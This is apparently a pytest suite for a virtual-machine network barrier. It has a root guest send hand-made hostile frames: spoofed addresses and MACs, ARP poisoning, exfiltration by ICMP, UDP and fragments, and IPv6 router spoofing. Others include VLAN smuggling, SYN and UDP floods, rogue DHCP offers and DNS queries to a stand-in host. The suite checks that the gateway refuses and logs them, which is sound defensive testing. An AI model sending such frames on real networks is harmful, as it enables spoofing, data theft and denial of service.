"""Frames made by hand: whatever a guest's kernel would not send, put on the wire as root.

The positive control of each is that the same packet from the host itself is seen by the world's witness, or that the
same frame with honest fields is answered.
"""

from __future__ import annotations

import pytest

from tests.barrier.attacks.guest import GATEWAY as GATEWAY_PROCESS
from tests.barrier.attacks.guest import Case, source_of
from tests.barrier.attacks.kit import (
    BROADCAST,
    GATEWAY,
    GATEWAY_MAC,
    GUEST,
    GUEST_MAC,
    NIC,
    arp,
    checksum,
    client_hello,
    contextlib,
    dns_query,
    exchange,
    fetch,
    frame,
    icmp,
    icmp6,
    ip4,
    ip6,
    os,
    packet_socket,
    records,
    resolve,
    send,
    socket,
    struct,
    tcp,
    tcp_segment,
    time,
    udp,
    udp_packet,
)
from tests.support import eventually

pytestmark = [pytest.mark.vm, pytest.mark.root]

ALLOWED = ["allow api.example.com"]
PUBLIC = "93.184.216.66"


@pytest.fixture(autouse=True)
def honest(case: Case) -> None:
    case.guest.network(ALLOWED)


def still_served(case: Case) -> None:
    def served() -> bool:
        return bool(case.guest.run(fetch, "http://api.example.com/", timeout=3)["status"] == 200)

    eventually(served)


def syn_answers(source: str, mac: bytes, to: str, port: int) -> list[bytes]:
    """TCP answers to a SYN from this source."""
    got = exchange(
        frame(ip4(to, 6, tcp_segment(to, port, source=source), source=source), source=mac), seconds=0.6
    )
    return [
        raw
        for raw in got
        if raw[12:14] == b"\x08\x00" and raw[23] == 6 and raw[26:30] == socket.inet_aton(to)
    ]


@pytest.mark.parametrize(
    "source", ["10.9.9.9", "8.8.8.8", "198.19.255.1", "198.19.255.3", "127.0.0.1", "0.0.0.0"]
)
def test_spoofed_source(case: Case, source: str) -> None:
    assert case.guest.run(syn_answers, source, GUEST_MAC, PUBLIC, 80) == []

    def spoofed(source: str) -> list[bytes]:
        query = udp_packet(GATEWAY, 53, dns_query("api.example.com"), source=source)
        got = exchange(frame(ip4(GATEWAY, 17, query, source=source)), seconds=0.4)
        return [raw for raw in got if raw[12:14] == b"\x08\x00" and raw[23] == 17]

    assert case.guest.run(spoofed, source) == []
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: source", source=source, address=PUBLIC)
    assert case.guest.run(spoofed, GUEST), "the same query with the guest's own address is answered"
    assert case.guest.run(syn_answers, GUEST, GUEST_MAC, PUBLIC, 80)


@pytest.mark.parametrize(
    "mac", ["020000000001", "ffffffffffff", "01005e000001", "000000000000", "024c34000002"]
)
def test_foreign_mac(case: Case, mac: str) -> None:
    assert case.guest.run(syn_answers, GUEST, bytes.fromhex(mac), PUBLIC, 80) == []
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: mac", address=PUBLIC)
    assert case.guest.run(syn_answers, GUEST, GUEST_MAC, PUBLIC, 80)


def arp_answers(target: str) -> int:
    got = exchange(
        frame(arp(1, sender=GUEST_MAC, sender_address=GUEST, target_address=target), 0x0806, to=BROADCAST),
        seconds=0.5,
    )
    return len([raw for raw in got if raw[12:14] == b"\x08\x06" and raw[20:22] == b"\0\2"])


def test_arp(case: Case) -> None:
    """Nobody but the gateway is there, and nobody can be made somebody else."""
    for target in ("198.19.255.3", "198.19.255.0", "10.0.0.5", "198.51.100.2", GUEST):
        assert case.guest.run(arp_answers, target) == 0, target

    def poison() -> None:
        for address in (GATEWAY, "198.19.255.3", "198.51.100.1", "0.0.0.0", "255.255.255.255"):
            for operation in (1, 2, 3, 8, 0xFFFF):
                for to in (BROADCAST, GATEWAY_MAC):
                    lie = arp(operation, sender=GUEST_MAC, sender_address=address, target_address=address)
                    other = arp(operation, sender=bytes(6), sender_address=GUEST, target_address=address)
                    send(
                        frame(lie, 0x0806, to=to), frame(other, 0x0806, to=to), frame(lie[:9], 0x0806, to=to)
                    )

    case.guest.run(poison)
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: arp")
    still_served(case)
    assert case.guest.run(arp_answers, GATEWAY) == 1


def ping(to: str, data: bytes) -> str:
    """What comes back for an echo request: "reply", "prohibited" (with ICMP's code) or "nothing"."""
    for raw in exchange(frame(ip4(to, 1, icmp(8, 0, data))), seconds=0.6):
        if raw[12:14] == b"\x08\x00" and raw[23] == 1:
            if raw[34] == 0:
                return f"reply {raw[42:] == data}"
            if raw[34] == 3:
                return f"prohibited {raw[35]}"
    return "nothing"


@pytest.mark.parametrize("to", ["8.8.8.8", PUBLIC, "10.0.0.5", "198.51.100.2"])
def test_icmp_exfiltration(case: Case, to: str) -> None:
    data = b"exfiltrated by ping"
    assert not case.guest.run(ping, to, data).startswith("reply")
    for kind in (0, 3, 5, 9, 10, 13, 15, 17, 42):
        case.guest.run(send, frame(ip4(to, 1, icmp(kind, 0, data))))
    case.nothing_arrived()
    case.denied(kind="packet", protocol="icmp", address=to)
    case.lab.send_frame(frame(ip4(to, 1, icmp(8, 0, data), source="198.51.100.2")))
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.protocol == 1 and data in one.payload]


QUIC = b"\xc0\x00\x00\x00\x01\x08" + b"\x4c" * 8 + b"\x00\x00\x44\x9e" + bytes(1_182)


@pytest.mark.parametrize(
    ("address", "port", "data"),
    [
        ("8.8.8.8", 443, QUIC),
        ("93.184.216.34", 443, QUIC),
        (PUBLIC, 4_433, b"exfiltrated"),
        (PUBLIC, 123, b"\x1b" + bytes(47)),
        ("10.0.0.5", 161, b"0\x26\x02\x01\x01\x04\x06public"),
        ("198.51.100.1", 514, b"<13>exfiltrated by syslog"),
        (PUBLIC, 51_820, b"\x01\0\0\0" + bytes(144)),
        (PUBLIC, 500, bytes(28)),
    ],
)
def test_udp_exfiltration(case: Case, address: str, port: int, data: bytes) -> None:
    """QUIC, NTP, SNMP, syslog, WireGuard, IKE: refused at once and audited, also when TCP there is allowed."""
    for network in (ALLOWED, "public", [f"allow {address}:{port}", f"allow tcp {address}:{port}"]):
        case.guest.network(network)
        assert case.guest.run(udp, address, port, data)["outcome"] in ("refused", "unreachable", "prohibited")
    case.nothing_arrived()
    case.denied(kind="packet", protocol="udp", address=address, port=port)
    case.lab.send(address, port, data)
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if (one.destination, one.port) == (address, port)]


def test_quic_to_an_allowed_name(case: Case) -> None:
    """HTTP/3 falls back to TCP: its packets are refused, not lost."""
    address = case.guest.run(resolve, "api.example.com")["addresses"][0]
    answer = case.guest.run(udp, address, 443, QUIC)
    assert answer["outcome"] in ("refused", "unreachable", "prohibited")
    case.nothing_arrived()
    case.denied(kind="packet", protocol="udp", port=443)
    assert case.guest.run(fetch, "https://api.example.com/")["status"] == 200


SIX = "2001:db8:77::1"
ROUTERS, NODES = "ff02::2", "ff02::1"


def six_frames() -> list[bytes]:
    """TCP, UDP, ICMP, DHCPv6, MLD, neighbour and router discovery, tunnels and extension headers."""
    mac = b"\x33\x33\0\0\0\1"
    link = b"\1\1" + GUEST_MAC
    prefix = struct.pack(">BBBBIII", 3, 4, 64, 0xC0, 7200, 7200, 0) + socket.inet_pton(
        socket.AF_INET6, "2001:db8:9::"
    )
    own = "2001:db8:9::2"
    payloads = [
        (GATEWAY_MAC, ip6(SIX, 6, tcp_segment(SIX, 80, source=own), source=own)),
        (
            GATEWAY_MAC,
            ip6(SIX, 17, udp_packet(SIX, 53, dns_query("evil.example.net"), source=own), source=own),
        ),
        (GATEWAY_MAC, ip6(SIX, 58, icmp6(SIX, 128, b"\0\1\0\1exfiltrated", source=own), source=own)),
        (mac, ip6(NODES, 58, icmp6(NODES, 134, struct.pack(">BBHII", 64, 0, 1800, 0, 0) + prefix + link))),
        (
            mac,
            ip6(
                NODES,
                58,
                icmp6(NODES, 136, b"\xe0\0\0\0" + socket.inet_pton(socket.AF_INET6, "fe80::1") + link),
            ),
        ),
        (mac, ip6(ROUTERS, 58, icmp6(ROUTERS, 133, bytes(4) + link))),
        (
            mac,
            ip6(
                "ff02::1:ff00:2",
                58,
                icmp6("ff02::1:ff00:2", 135, bytes(4) + socket.inet_pton(10, "fe80::2") + link),
            ),
        ),
        (
            mac,
            ip6(
                "ff02::1:2", 17, udp_packet("ff02::1:2", 547, b"\1\1\2\3", source="fe80::2"), source="fe80::2"
            ),
        ),
        (
            mac,
            ip6(
                "ff02::16", 58, icmp6("ff02::16", 143, b"\0\0\0\1\4\0\0\0" + socket.inet_pton(10, "ff02::fb"))
            ),
        ),
        (
            GATEWAY_MAC,
            ip6("::ffff:93.184.216.66", 6, tcp_segment("::ffff:93.184.216.66", 80, source=own), source=own),
        ),
        (
            GATEWAY_MAC,
            ip6("64:ff9b::808:808", 17, udp_packet("64:ff9b::808:808", 53, b"x", source=own), source=own),
        ),
        (
            GATEWAY_MAC,
            ip6(SIX, 43, b"\x06\x02\0\1\0\0\0\0" + socket.inet_pton(10, SIX) + bytes(20), source=own),
        ),
        (GATEWAY_MAC, ip6(SIX, 44, b"\x11\0\0\1\0\0\0\1" + b"x" * 64, source=own)),
        (GATEWAY_MAC, ip6(SIX, 4, ip4("10.0.0.5", 17, udp_packet("10.0.0.5", 53, b"x")), source=own)),
    ]
    return [frame(payload, 0x86DD, to=to) for to, payload in payloads]


def test_six_by_hand(case: Case) -> None:
    def attack() -> list[bytes]:
        got = exchange(*six_frames(), seconds=1.0)
        return [raw for raw in got if raw[12:14] == b"\x86\xdd"]

    source = source_of(six_frames, attack, SIX=SIX, ROUTERS=ROUTERS, NODES=NODES)
    assert case.guest.run_source(source, "attack") == []
    case.nothing_arrived()
    for protocol in ("tcp", "udp", "icmpv6"):
        case.denied(kind="packet", rule="link: ipv6", protocol=protocol)
    case.lab.send(SIX, 53, b"x")
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.destination == SIX]
    still_served(case)


def send_many(frames: list[bytes]) -> int:
    """As many as the NIC takes; too long ones are refused by the guest's own kernel."""
    sent = 0
    for one in frames:
        with contextlib.suppress(OSError):
            sent += bool(send(one))
    return sent


def tcp_to(to: str, port: int = 80) -> bytes:
    return ip4(to, 6, tcp_segment(to, port))


def test_vlan_tags(case: Case) -> None:
    inner = tcp_to(PUBLIC)
    udp4 = ip4("8.8.8.8", 17, udp_packet("8.8.8.8", 53, dns_query("evil.example.net")))
    frames = []
    for payload in (inner, udp4):
        for tag in (0, 1, 100, 4095):
            tagged = struct.pack(">HH", tag, 0x0800) + payload
            frames += [frame(tagged, 0x8100), frame(tagged, 0x88A8)]
            frames.append(frame(struct.pack(">HHHH", 5, 0x8100, tag, 0x0800) + payload, 0x88A8))
        frames.append(frame(b"\x11\0" + struct.pack(">HHHHH", 6, 0, 1, 0x0021, 0) + payload, 0x8864))  # PPPoE
        frames.append(frame(struct.pack(">I", 100 << 12 | 1 << 8 | 64) + payload, 0x8847))  # MPLS
        frames.append(frame(b"\xaa\xaa\x03\0\0\0\x08\0" + payload, len(payload) + 8))  # SNAP
    assert case.guest.run(send_many, frames) == len(frames)
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: ethernet")
    case.lab.send_frame(frames[0])
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.destination == PUBLIC], (
        "the tag itself is taken off it"
    )
    still_served(case)


def test_fragments(case: Case) -> None:
    """Tiny, overlapping, endless and oversized ones; nothing is put together outside, nor leaks by pieces."""
    segment = tcp_segment(PUBLIC, 80)
    datagram = udp_packet(PUBLIC, 9_999, b"exfiltrated in pieces" * 20)
    query = udp_packet("8.8.8.8", 53, dns_query("evil.example.net"))
    frames = [
        *[frame(ip4(PUBLIC, 6, segment[at : at + 8], flags=at + 8 < len(segment), offset=at, number=1))
          for at in range(0, len(segment), 8)],
        *[frame(ip4(PUBLIC, 17, datagram[at : at + 64], flags=at + 64 < len(datagram), offset=at, number=2))
          for at in range(0, len(datagram), 64)],
        # A second fragment that writes over the port of the first.
        frame(ip4(PUBLIC, 6, tcp_segment("198.18.0.1", 80), flags=1, number=3)),
        frame(ip4(PUBLIC, 6, segment + bytes(4), offset=0, number=3)),
        frame(ip4("8.8.8.8", 17, query[:16], flags=1, number=4)),
        frame(ip4("8.8.8.8", 17, query[8:], offset=8, number=4)),
        # Reassembles beyond 64 KiB.
        *[frame(ip4(PUBLIC, 1, b"\x08" * 1_400, flags=1, offset=at, number=5)) for at in range(0, 64_400, 1_400)],
        frame(ip4(PUBLIC, 1, b"\x08" * 1_400, offset=65_528, number=5)),
        # Never completed.
        *[frame(ip4(PUBLIC, 17, b"x" * 8, flags=1, offset=8, number=number)) for number in range(100, 600)],
    ]  # fmt: skip
    assert case.guest.run(send_many, frames) > 500
    case.nothing_arrived()
    # Those that make up a whole packet; what is never whole is none to judge, and ends in the namespace.
    case.denied(kind="packet", rule="link: denied", protocol="udp", address=PUBLIC, port=9_999)
    case.lab.send_frame(frame(ip4(PUBLIC, 17, b"x" * 8, flags=1, offset=8, source="198.51.100.2")))
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.destination == PUBLIC]
    still_served(case)


def test_source_routing_and_options(case: Case) -> None:
    def route(kind: int, *hops: str) -> bytes:
        addresses = b"".join(socket.inet_aton(hop) for hop in hops)
        return bytes([kind, 3 + len(addresses), 4]) + addresses

    frames = []
    for kind in (131, 137, 7):  # loose, strict, record
        options = route(kind, "10.0.0.5", "169.254.169.254")
        frames += [
            frame(ip4(GATEWAY, 6, tcp_segment("10.0.0.5", 80), options=options)),
            frame(ip4("198.51.100.2", 17, udp_packet("10.0.0.5", 53, b"x"), options=options)),
            frame(ip4(PUBLIC, 1, icmp(8, 0, b"x"), options=options)),
        ]
    frames += [
        frame(ip4(PUBLIC, 6, tcp_segment(PUBLIC, 80), options=bytes([68, 12, 5, 1, 0, 0, 0, 0, 0, 0, 0, 0]))),
        frame(ip4(PUBLIC, 6, tcp_segment(PUBLIC, 80), options=b"\x94\x04\0\0")),
        frame(ip4(PUBLIC, 6, tcp_segment(PUBLIC, 80), options=b"\x07\xff\x04")),
    ]
    assert case.guest.run(send_many, frames) == len(frames)
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: denied", protocol="icmp", address=PUBLIC)
    packet = ip4("10.0.0.5", 17, udp_packet("10.0.0.5", 53, b"x"), options=route(131, "10.0.0.9"))
    case.lab.send_frame(frame(packet))
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.destination == "10.0.0.5"]
    still_served(case)


@pytest.mark.parametrize("protocol", [0, 2, 4, 41, 47, 50, 51, 88, 89, 103, 112, 115, 132, 136, 137, 255])
def test_other_protocols(case: Case, protocol: int) -> None:
    """IGMP, IP in IP, 6in4, GRE, ESP, AH, EIGRP, OSPF, PIM, VRRP, L2TP, SCTP, UDP-Lite, MPLS in IP and unused ones."""
    inner = ip4("10.0.0.5", 17, udp_packet("10.0.0.5", 53, b"x"))
    payload = {47: b"\0\0\x08\0" + inner, 4: inner, 41: ip6(SIX, 59, b"exfiltrated")}.get(
        protocol, b"exfiltrated" + bytes(9)
    )
    for to in (PUBLIC, GATEWAY, "224.0.0.5"):
        assert case.guest.run(send, frame(ip4(to, protocol, payload))) > 0
    case.nothing_arrived()
    case.denied(kind="packet", address=PUBLIC)
    case.lab.send_frame(frame(ip4(PUBLIC, protocol, payload, source="198.51.100.2")))
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.destination == PUBLIC]


def test_tcp_without_a_handshake(case: Case) -> None:
    """ACK, FIN, NULL, XMAS, SYN+FIN and data that belong to no connection; nor do RSTs end one of another."""
    flags = [0, 1, 4, 0x10, 0x11, 0x14, 0x18, 0x29, 0x3F, 3, 6, 0x12, 0xC2]
    frames = [
        frame(
            ip4(
                to,
                6,
                tcp_segment(to, port, flags=flag, acknowledge=7, data=b"exfiltrated" if flag & 8 else b""),
            )
        )
        for flag in flags
        for to in (PUBLIC, "10.0.0.5", GATEWAY, "198.18.0.1")
        for port in (0, 80, 9_000)
    ]
    assert case.guest.run(send_many, frames) == len(frames)
    case.denied(kind="packet", rule="link: stray", protocol="tcp", address="10.0.0.5")
    bad = bytearray(ip4(PUBLIC, 6, tcp_segment(PUBLIC, 80)))
    bad[-3] ^= 0xFF  # a checksum that is wrong
    case.guest.run(send, frame(bytes(bad)))
    case.nothing_arrived()
    case.lab.send_frame(frame(ip4(PUBLIC, 6, tcp_segment(PUBLIC, 80, flags=0x18, data=b"exfiltrated"))))
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.payload == b"exfiltrated"]
    still_served(case)


def test_data_in_the_syn(case: Case) -> None:
    """TCP Fast Open: what a SYN carries reaches nobody before policy has judged the connection."""

    def fast_open(address: str) -> bytes:
        sock = socket.socket()
        sock.settimeout(2)
        try:
            sock.sendto(b"GET / HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, (address, 80))
            return sock.recv(100)
        except OSError:
            return b""
        finally:
            sock.close()

    assert not case.guest.run(fast_open, PUBLIC).startswith(b"HTTP/1.1 200")
    case.guest.run(send, frame(ip4(PUBLIC, 6, tcp_segment(PUBLIC, 80, data=b"exfiltrated"))))
    case.nothing_arrived()
    case.denied(kind="connection", address=PUBLIC, port=80)
    case.guest.network([f"allow {PUBLIC}"])
    raw = f"GET / HTTP/1.1\r\nHost: {PUBLIC}\r\n\r\n".encode()
    assert case.guest.run(tcp, PUBLIC, 80, raw, until=b"hello", limit=4_096)["data"].startswith(
        b"HTTP/1.1 200"
    )


def test_link_layer_protocols(case: Case) -> None:
    """DHCP, LLDP, STP, CDP, EAPOL, LACP, PTP, Wake-on-LAN, MACsec: nobody answers and nothing is set up by them."""

    def attack() -> list[str]:
        discover = b"\1\1\6\0" + bytes(24) + GUEST_MAC + bytes(202) + b"c\x82Sc\x35\1\1\xff"
        offer = b"\2" + discover[1:-4] + b"\x35\1\5\xff"
        dhcp = udp_packet("255.255.255.255", 67, discover, source="0.0.0.0", source_port=68)
        lie = udp_packet("255.255.255.255", 68, offer, source=GUEST, source_port=67)
        frames = [
            frame(ip4("255.255.255.255", 17, dhcp, source="0.0.0.0"), to=BROADCAST),
            frame(ip4("255.255.255.255", 17, lie), to=BROADCAST),
            frame(
                b"\x02\x07\x04" + GUEST_MAC + b"\x04\x03\x05xx\x06\x02\0\x78\0\0",
                0x88CC,
                to=b"\1\x80\xc2\0\0\x0e",
            ),
            frame(b"\x42\x42\x03" + bytes(35), 38, to=b"\1\x80\xc2\0\0\0"),
            frame(b"\xaa\xaa\x03\0\0\x0c\x20\0\x02\xb4" + bytes(20), 30, to=b"\1\0\x0c\xcc\xcc\xcc"),
            frame(b"\1\1\0\0", 0x888E, to=b"\1\x80\xc2\0\0\3"),
            frame(b"\1\1" + bytes(108), 0x8809, to=b"\1\x80\xc2\0\0\2"),
            frame(b"\0\2\0\x2c" + bytes(40), 0x88F7, to=b"\1\x1b\x19\0\0\0"),
            frame(b"\xff" * 6 + GATEWAY_MAC * 16, 0x0842, to=BROADCAST),
            frame(bytes(60), 0x88E5),
            frame(bytes(46), 0x9000),
            frame(b"exfiltrated" * 4, 0x88B6, to=BROADCAST),
        ]
        got = exchange(*frames, seconds=1.0)
        return [raw[12:14].hex() for raw in got if raw[12:14] not in (b"\x08\x06",)]

    answered = case.guest.run(attack)
    assert set(answered) <= {"0800"}, "only ICMP may say no"
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: ethernet")
    case.denied(kind="packet", rule="link: source", source="0.0.0.0", port=67)
    case.lab.send_frame(frame(b"exfiltrated" * 4, 0x88B6, to=BROADCAST))
    case.lab.settle()
    assert [one for one in case.lab.left(case.mark) if one.protocol == "0x88b6"]
    still_served(case)


def test_frames_of_odd_sizes(case: Case) -> None:
    frames = [bytes(size) for size in (14, 15, 20, 33)]
    frames += [frame(b"\x45" + bytes(size)) for size in range(0, 60, 7)]
    frames += [frame(os.urandom(size)) for size in (1, 60, 500, 1_486, 1_500)]
    frames += [frame(os.urandom(100), kind) for kind in (0, 0x0600, 0x0800, 0x0806, 0x86DD, 0xFFFF)]
    long = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 65_535, 1, 0, 64, 17, 0, socket.inet_aton(GUEST), socket.inet_aton(PUBLIC)
    )
    frames.append(frame(long[:10] + checksum(long).to_bytes(2, "big") + long[12:]))
    assert case.guest.run(send_many, frames) > 20
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: ethernet")
    still_served(case)


def test_flood_of_half_open_connections(case: Case) -> None:
    """10,000 SYNs that nobody goes on with, to an allowed and a denied address; honest ones are still served."""
    allowed = case.guest.run(resolve, "api.example.com")["addresses"][0]

    def attack(targets: tuple[str, ...], count: int) -> int:
        sent = 0
        with packet_socket() as sock:
            for number in range(count):
                to = targets[number % len(targets)]
                port = 1_024 + number % 60_000
                with contextlib.suppress(OSError):
                    sent += bool(
                        sock.send(frame(ip4(to, 6, tcp_segment(to, 80, source_port=port, sequence=number))))
                    )
        return sent

    assert case.guest.run(attack, (allowed, PUBLIC), 10_000) > 9_000
    still_served(case)
    assert not case.lab.arrived(case.mark, address=PUBLIC)
    # What is no connection yet is none to judge, and is not in the record; one that is made is.
    assert case.guest.run(tcp, PUBLIC, 80, b"x")["outcome"] != "answered"
    case.denied(kind="connection", address=PUBLIC, port=80)


def test_flood_of_packets(case: Case) -> None:
    """10,000 datagrams and as many spoofed ones: none leaves, and the record counts them instead of growing by each."""

    def attack(count: int) -> int:
        sent = 0
        refused = frame(ip4("8.8.8.8", 17, udp_packet("8.8.8.8", 443, b"exfiltrated")))
        spoofed = frame(
            ip4("8.8.8.8", 17, udp_packet("8.8.8.8", 443, b"x", source="10.1.1.1"), source="10.1.1.1")
        )
        with packet_socket() as sock:
            for _ in range(count):
                with contextlib.suppress(OSError):
                    sent += bool(sock.send(refused)) + bool(sock.send(spoofed))
        return sent

    before = sum(case.lab.rss(GATEWAY_PROCESS).values())
    assert case.guest.run(attack, 10_000) > 15_000
    case.nothing_arrived()
    for rule in ("link: denied", "link: source"):
        case.denied(kind="packet", rule=rule, repeated=lambda value: value and value > 1)
    records = case.guest.records(case.at)
    assert len(records) < 3_000
    assert sum(record.get("repeated", 1) for record in records if record["kind"] == "packet") > 5_000
    assert sum(case.lab.rss(GATEWAY_PROCESS).values()) - before < 16 * 1_048_576
    still_served(case)


def test_a_guest_that_renumbers_itself(case: Case) -> None:
    """Another address and another MAC on its NIC: its packets go nowhere, until it takes its own again."""

    def change(address: str, mac: bytes) -> None:
        import fcntl

        def ioctl(number: int, data: bytes) -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                fcntl.ioctl(sock, number, NIC.encode().ljust(16, b"\0") + data)

        ioctl(0x8914, struct.pack("H22x", 0x1042))  # down
        ioctl(0x8924, struct.pack("H6s16x", 1, mac))
        ioctl(0x8914, struct.pack("H22x", 0x1043))  # up
        ioctl(0x8916, struct.pack("HH4s16x", 2, 0, socket.inet_aton(address)))
        ioctl(0x891C, struct.pack("HH4s16x", 2, 0, socket.inet_aton("255.255.255.252")))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, contextlib.suppress(FileExistsError):
            route = struct.pack(
                "QHH4s8xHH4s8xHH4s8xH", 0, 2, 0, bytes(4), 2, 0, socket.inet_aton(GATEWAY), 2, 0, bytes(4), 3
            )
            fcntl.ioctl(sock, 0x890B, route.ljust(120, b"\0"))
        end = time.monotonic() + 5
        while time.monotonic() < end:
            with open(f"/sys/class/net/{NIC}/carrier") as file:
                if file.read().strip() == "1":
                    break

    original = case.guest.run(_mac_of_nic)
    try:
        for address, mac in (
            ("198.19.255.3", original),
            (GUEST, b"\x02\0\0\0\0\x07"),
            ("198.19.255.3", b"\x02\0\0\0\0\x07"),
        ):
            case.guest.run(change, address, mac)
            assert (
                case.guest.run(tcp, PUBLIC, 80, b"GET / HTTP/1.0\r\n\r\n", timeout=1.5)["outcome"]
                != "answered"
            )
            assert case.guest.run(resolve, "api.example.com", timeout=1)["outcome"] != "answered"
    finally:
        case.guest.run(change, GUEST, original)
    case.nothing_arrived()
    case.denied(kind="packet", rule="link: mac")
    case.denied(kind="packet", rule="link: arp")
    still_served(case)


def _mac_of_nic() -> bytes:
    with open(f"/sys/class/net/{NIC}/address") as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))


def test_hello_in_one_segment_by_hand(case: Case) -> None:
    """The control of all of the above: a connection by hand-made hello is served where policy allows it."""
    address = case.guest.run(resolve, "api.example.com")["addresses"][0]
    answer = case.guest.run(tcp, address, 443, records(client_hello("api.example.com")), limit=6)
    assert answer["data"][:1] == b"\x16"
